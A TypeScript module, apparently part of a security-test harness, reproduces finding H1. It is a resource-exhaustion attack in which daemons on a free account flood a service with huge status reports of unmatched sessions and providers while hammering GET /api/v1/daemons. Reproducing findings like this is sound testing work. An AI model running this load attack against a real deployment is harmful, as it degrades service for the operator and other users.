/** H1: reports with many sessions and many providers, and the list of the daemons that sent them, again and again. */

import type { Attack } from "./attack.ts"
import { askAgain, type DaemonTally, keepDaemons, named } from "./attacker-daemons.ts"

const daemons = 20
const keys = 4
const callsOfKey = 120
const sessions = 7_000
const providers = 16_500

const report = (): string => {
  // short, so that the report is within a frame's bound; of each session the provider is looked for in vain
  const short = (at: number): string => at.toString(36)
  const [kind, transport, status] = ["agent", "pty", ""]
  const session = (at: number) => ({ id: short(at), providerType: `-${short(at)}`, kind, transport, status })
  const provider = (at: number) => ({ type: short(at), category: "" })
  return JSON.stringify({
    type: "status_report",
    data: {
      timestamp: Date.now(),
      sessions: Array.from({ length: sessions }, (_, at) => session(at)),
      availableProviders: Array.from({ length: providers }, (_, at) => provider(at))
    }
  })
}

/** Of one free account. */
export const quadraticReport: Attack = {
  finding: "H1",
  asks: `${daemons} daemons report ${sessions} sessions and ${providers} providers; GET /daemons with ${keys} keys`,
  holds: (tiny) => ({ plan: "free", keys: tiny ? 1 : keys, daemons: tiny ? 2 : daemons }),
  strike: async (target) => {
    const [text, tally] = [report(), { online: 0, closed: 0 } satisfies DaemonTally]
    const own = target.holder?.keys ?? []
    const ask = (caller: number) => ({
      method: "GET",
      path: "/api/v1/daemons",
      headers: { authorization: `Bearer ${own[caller]}` }
    })
    const [statuses] = await Promise.all([
      askAgain(target, own.length, ask, callsOfKey),
      keepDaemons(target, tally, {}, (socket) => void socket.send([text]))
    ])
    return { ...tally, ...named(statuses) }
  }
}
